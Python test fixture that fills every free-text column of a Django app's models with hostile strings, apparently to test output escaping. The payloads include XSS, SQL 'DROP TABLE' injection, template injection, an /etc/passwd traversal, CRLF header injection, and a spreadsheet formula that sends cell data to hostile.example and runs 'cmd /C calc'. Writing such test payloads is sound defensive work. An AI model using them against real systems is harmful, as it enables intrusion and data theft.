"""A world in which every text that people write is hostile: found from the models, so that a new column is covered.

Markers tell a text that became something else: an element, an attribute, a script that ran, a template that was
filled in, a formula, a line of a header.
"""

from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import count
from typing import Any, Final

from django.apps import apps
from django.db import models, transaction
from django.db.models import ForeignKey

from renmai.domain.handover import ItemKind
from renmai.store.models import Employee, HelpRequest, Influence, KeyPerson
from tests.architecture.permissions import PAGES
from tests.architecture.permissions_of_api import API
from tests.architecture.permissions_of_commands import COMMANDS
from tests.people import AS_OF, CAST, build_world

ELEMENT: Final = "hostile-mark"
ATTRIBUTE: Final = "hostile-attribute"
FLAG: Final = "pwned"
"""The name in `window` that a script of a text would set."""
PRODUCT: Final = "4064401"
"""What a template engine would make of 2003*2027 hostile pieces."""
BITS: Final = (
    f"<{ELEMENT}>",
    f"<script>window.{FLAG}=1</script>",
    f"</script></title></textarea></style><script>window.{FLAG}=1</script>",
    f'"><img src=x onerror="window.{FLAG}=1"><svg onload="window.{FLAG}=1">',
    f"' {ATTRIBUTE}=1 \" {ATTRIBUTE}=1 ",
    f"javascript:window.{FLAG}=1",
    "'; DROP TABLE store_customer; --",
    "{{2003*2027}}${2003*2027}#{2003*2027}<%=2003*2027%>{%debug%}%(name)s{0}",
    "../../../../etc/passwd",
    "\\u003cscript\\u003e&lt;b&gt;&#60;i&#62;]]><!--<![CDATA[",
    "\r\nX-Hostile: 1\r\n\r\n<b>",
    "\u202eoediv\u2066\u200b\ufeff",
    "\x1b[31m\x1b]0;hostile\x07\x9b2J\x08",
    "😀𠮷",
)
FORMULA: Final = '=HYPERLINK("http://hostile.example/?"&A1,"x")|cmd|\' /C calc\'!A0'
TEXTS: Final = (FORMULA + "".join(BITS), "".join(BITS), "@SUM(1)" + "".join(BITS) + "长" * 3000)
CLOSED: Final = {
    # column: who writes it, if not people
    "Account.password": "a hash",
    "Account.email": "checked as an address",
    "ActionMark.subject_code": "a code of another row",
    "ActionMark.cause": "a hash",
    "Assessment.evidence": "answers in a grammar of its own",
    "AuditEntry.file": "a file of the bundle",
    "ColumnMapping.signature": "a hash",
    "ColumnMapping.uses": "columns by position",
    "Delivery.period": "a day or a week",
    "Delivery.receiver": "a robot or an employee, by key",
    "Influence.evidence": "answers in a grammar of its own",
    "Job.kind": "a kind of job",
    "Job.language": "a language",
    "Job.file": "a name that the program gives",
    "Job.asked": "what a page asked for",
    "Job.outcome": "what a job tells",
    "KeptCall.sender": "a token, by key",
    "KeptCall.key": "what a program sends with a call, and nobody is shown",
    "KeptCall.fingerprint": "a hash",
    "KeptCall.made": "an address of ours",
    "Look.place": "a page",
    "NoticeTold.key": "a hash",
    "NoticeWish.language": "a language",
    "PlanStep.from_value": "a degree or a vote",
    "PlanStep.goal": "a degree or a vote",
    "PlanStep.tactic": "a code of another row",
    "PolicyOverride.name": "a threshold",
    "ProposedChange.cells": "values of a row, checked as such; notes among them are hostile in test_proposals.py",
    "ProposedChange.seen": "what held when the change was proposed",
    "Revision.action": "an action",
    "SavedFilter.line": "a line",
    "SavedFilter.query": "a query that was read before it was kept",
    "Tactic.degrees": "names of degrees",
    "Tactic.targets": "names of targets",
    "Tactic.copied_from": "a code of another row",
    "Token.secret_hash": "a hash",
    "Token.last_four": "characters of a secret",
    "Webhook.nonce": "chance",
    "Webhook.events": "kinds of events",
    "Upload.mapping": "columns by position",
    "Upload.choices": "codes by code",
    "Upload.counts": "numbers",
    "Upload.status": "how an import ended",
}
NOW: Final = datetime(2026, 9, 30, 9, 0, tzinfo=UTC)
ASKED: Final = PAGES + API + COMMANDS


def hostile_world() -> None:
    """The world of the cast, with a row of every model, and every text of it hostile; codes that are asked for stay."""
    build_world()
    for model in models_of():
        if not _rows(model).exists():
            _made(model)
    for model in models_of():
        for column in written_columns(model):
            _poison(model, column)


def written_columns(model: type[models.Model]) -> list["models.Field[Any, Any]"]:
    """Columns in which people write what they like."""
    return [
        column
        for column in model._meta.concrete_fields
        if isinstance(column, (models.CharField, models.TextField, models.JSONField))
        and not column.choices
        and f"{model.__name__}.{column.name}" not in CLOSED
    ]


def models_of() -> list[type[models.Model]]:
    return list(apps.get_app_config("store").get_models())


def _rows(model: type[models.Model]) -> "models.QuerySet[models.Model]":
    return getattr(model, "unscoped", model._default_manager).all()


def _poison(model: type[models.Model], column: "models.Field[Any, Any]") -> None:
    for at, row in enumerate(_rows(model).order_by("pk")):
        held = getattr(row, column.attname)
        if column.name in ("code", "username") and is_asked(held):
            continue
        text = TEXTS[(at + len(column.name)) % len(TEXTS)]
        if isinstance(column, models.JSONField):
            value: object = _poisoned(held, text)
        else:
            unique = f"{at}" if column.name in ("code", "name") else ""
            value = unique + text if column.name == "code" else text + unique
            value = value[: column.max_length or None]
        _rows(model).filter(pk=row.pk).update(**{column.name: value})


def is_asked(code: str) -> bool:
    """Whether an address of the permission table may name it."""
    return code in ASKED or code in CAST


def _poisoned(held: object, text: str) -> object:
    """The same JSON, every text of it hostile; names of fields are the program's."""
    if isinstance(held, dict):
        return {name: _poisoned(value, text) for name, value in held.items()}
    if isinstance(held, list):
        return [_poisoned(value, text) for value in held]
    return text if isinstance(held, str) else held


_numbers = count(2)


def _made(model: type[models.Model]) -> None:
    """One row, with whatever its columns ask for."""
    given = {**_GIVEN.get(model.__name__, dict)()}
    for column in model._meta.concrete_fields:
        if column.name in given or isinstance(column, models.AutoField) or column.has_default() or column.null:
            continue
        given[column.name] = _value(column)
    with transaction.atomic():
        getattr(model, "unscoped", model._default_manager).create(**given)


def _value(column: "models.Field[Any, Any]") -> object:
    if isinstance(column, ForeignKey):
        return _rows(column.related_model).order_by("pk").first()
    if column.choices:
        return next(value for value, _ in column.choices if value)
    kinds: Iterator[tuple[type, object]] = iter(
        (
            (models.DateTimeField, NOW),
            (models.DateField, AS_OF),
            (models.BooleanField, False),
            (models.DecimalField, Decimal(1)),
            (models.IntegerField, 1),
            (models.JSONField, {}),
            (models.TextField, "text"),
            (models.CharField, f"code-{next(_numbers)}"[-(column.max_length or 0) :]),
        )
    )
    return next((value for kind, value in kinds if isinstance(column, kind)), None)


def _employee(code: str) -> Employee:
    return Employee.objects.get(code=code)


def _person(code: str) -> KeyPerson:
    return KeyPerson.unscoped.get(code=code)


_GIVEN: Final[dict[str, Any]] = {
    "Erasure": lambda: {"key_person": _person("orchard-boss"), "by": _employee("admin")},
    "Handover": lambda: {
        "from_employee": _employee("departed"),
        "to_employee": _employee("owner"),
        "by": _employee("leader"),
        "code": "HO-1",
    },
    "HandoverItem": lambda: {"kind": ItemKind.PLAN},
    "HelpRequest": lambda: {
        "code": "HR-1",
        "key_person": _person("harbour-boss"),
        "asker": _employee("mate"),
        "giver": _employee("owner"),
    },
    "PrivateRelation": lambda: {
        "influence": Influence.unscoped.get(key_person__code="harbour-boss", kind="ours"),
        "employee": _employee("owner"),
    },
    "InsightAnswer": lambda: {"request": HelpRequest.unscoped.get()},
    "CoverageRound": lambda: {"code": "CR-1", "starts_on": date(2026, 9, 1), "due_on": date(2026, 10, 31)},
    "PlanStep": lambda: {
        "code": "PS-1",
        "feature": "",
        "goal": "",
        "from_value": "",
        "due_on": AS_OF,
        "owner": _employee("owner"),
    },
    "Survey": lambda: {"code": "SV-1", "opens_on": date(2026, 9, 1), "closes_on": date(2026, 10, 31)},
    "Stage": lambda: {"code": "S1"},
    "Upload": lambda: {"names": ["customers.csv"], "employee": _employee("admin")},
    "SavedFilter": lambda: {"line": "customer", "query": "view=personal:owner", "employee": _employee("owner")},
    "AuditEntry": lambda: {
        "file": "customers",
        "key": {"code": "harbour"},
        "before": {"name": "x", "region": ""},
        "after": {"name": "y", "region": "z"},
    },
    "NoticeRun": lambda: {"problems": ["x"]},
    "Tactic": lambda: {
        "code": "TC-1",
        "copied_from": "",
        "name": "x",
        "strategy": "acquire",
        "degrees": "",
        "targets": "",
    },
    "Job": lambda: {"kind": "export_line", "employee": _employee("owner"), "file": ""},
    "ActionMark": lambda: {"reason": "x", "by": _employee("owner"), "status": "done", "until": None, "ending": ""},
}
